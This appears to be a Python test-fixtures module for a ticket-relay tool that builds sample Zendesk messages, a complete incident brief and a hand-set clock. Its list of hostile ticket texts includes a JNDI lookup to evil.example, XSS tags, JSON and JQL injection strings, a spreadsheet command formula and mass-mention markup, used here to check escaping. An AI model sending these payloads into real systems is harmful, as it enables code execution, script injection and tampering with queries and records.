"""Matters that adapters speak of in tests: messages, a whole brief, and texts that try to be more than text."""

from datetime import UTC, datetime
from typing import Any
from urllib.parse import parse_qs, urlsplit

import responses

from deskhand.core.brief import Brief, Tried
from deskhand.core.message import Link, Message, Notice, Verb

NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
THREAD = "zd:acme:48213:e1"
URL = "https://acme.zendesk.com/agent/tickets/48213"

HOSTILE = (
    "<!channel> <@U012AB3CD> <!here|here> @here @channel",
    "[~accountid:5b10a2844c20165700ede21g] [~admin] {code}x{code} !image.png! [x|https://evil.example]",
    '"}]}]},"update":{"labels":[{"add":"x"}]},"x":{"y":[{"z":"',
    '{"type":"mention","attrs":{"id":"5b10a2844c20165700ede21g","text":"@admin"}}',
    "<script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:x'>y</a>",
    "{{ ticket.requester.email }} {% raw %} ${jndi:ldap://evil.example/a} %s %(x)s {0.__class__}",
    "*bold* _it_ ~no~ `code` ```\nblock\n``` > quote\n# head\n- [ ] todo",
    '" OR project = SECRET OR labels = "',
    "\\\" or label = \"x",
    "\x00\x1b[31m\x07\x08\x9b\u202egnp.exe\u2066\ufeff",
    "lone \ud83d half, \udc00 other",
    "line\r\nline\rline\u2028line\u2029line\x0bline\x85",
    "=cmd|' /C calc'!A0",
    "ü" * 64_000,
    "\n" * 64_000 + "end",
    "\U0001f469\u200d\U0001f467 ﷽ Z\u0351\u036b\u0343\u0317",
    "",
    "   ",
)  # fmt: skip
"""What people may write into a ticket."""


def message(verb: Verb = "file", *, key: str = "", number: int = 1, severity: str = "p1", **notice: Any) -> Message:
    """A message of the one thread about ticket 48213."""
    told = Notice(**{"title": "Checkout fails", "url": URL} | notice)
    return Message(
        key or f"{THREAD}:{verb}:{number}", THREAD, number, 48213, verb, ("it",), told, NOW, severity=severity
    )


def brief(**parts: Any) -> Brief:
    """A brief with every part filled in."""
    whole = {
        "customers": "3: Acme, Globex, Initech",
        "workflow_impact": "nobody can pay",
        "revenue_at_risk": "40,000 EUR a day",
        "sla": "At risk",
        "sla_clock": "first reply",
        "description": "Checkout answers with an error.\nSince 09:00.\n\nEverybody in Europe.",
        "steps": ("Open the shop", "Pay by card"),
        "expected": "A receipt",
        "actual": "Error 17",
        "environment": "production, eu-1",
        "tried": (Tried("restarted the gateway", "no change"), Tried("asked the bank", "all well there")),
        "last_update_at": NOW,
        "last_update": "We are looking into it.",
        "expectation": "an answer by 13:00",
        "escalation_risk": "high",
        "needed": "Find the cause",
        "deadline": NOW.replace(hour=14),
        "missing": ("request id",),
    }
    named = {"ticket_id": 48213, "url": URL, "at": NOW, "summary": "Checkout is down for Europe", "severity": "Critical", "target": "Engineering"}  # fmt: skip
    return Brief(**{**named, **whole, **parts})


RUNBOOK = Link("Checkout runbook", "https://acme.atlassian.net/wiki/spaces/SUP/pages/1")


def asked(name: str, call: int = -1) -> str:
    """A value of a call's query."""
    return parse_qs(urlsplit(str(responses.calls[call].request.url)).query)[name][0]


class Hands:
    """A clock that is moved by hand."""

    def __init__(self) -> None:
        self.now = NOW

    def __call__(self) -> datetime:
        """What it shows."""
        return self.now
